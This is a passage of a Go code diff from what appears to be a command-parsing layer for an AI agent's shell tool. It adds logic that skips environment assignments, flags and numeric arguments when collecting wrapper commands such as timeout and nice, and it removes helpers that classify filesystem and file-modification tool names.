+		if strings.Contains(tok, "=") && !strings.HasPrefix(tok, "-") {
+			continue
+		}
+		if strings.HasPrefix(tok, "-") || startsWithDigit(tok) {
+			continue
+		}
+		if !wrapperCommands[tok] {
+			break
+		}
+		wrappers = append(wrappers, tok)
+	}
+	return wrappers
+}
+
+// startsWithDigit reports whether a token opens with a digit, covering
+// timeout durations (30, 30s) and nice/ionice levels.
+func startsWithDigit(s string) bool {
+	return len(s) > 0 && s[0] >= '0' && s[0] <= '9'
 }
 
 // tokenize splits a command segment into space-separated tokens,
@@ -454,24 +1948,3 @@ func tokenize(s string) []string {
 
 	return tokens
 }
-
-var filesystemTools = map[string]bool{
-	"Bash":  true,
-	"Read":  true,
-	"Write": true,
-	"Edit":  true,
-	"Glob":  true,
-	"Grep":  true,
-}
-
-func isFilesystemTool(tool string) bool {
-	return filesystemTools[tool]
-}
-
-func isModificationTool(tool string) bool {
-	switch tool {
-	case "Write", "Edit", "NotebookEdit":
-		return true
-	}
-	return false
-}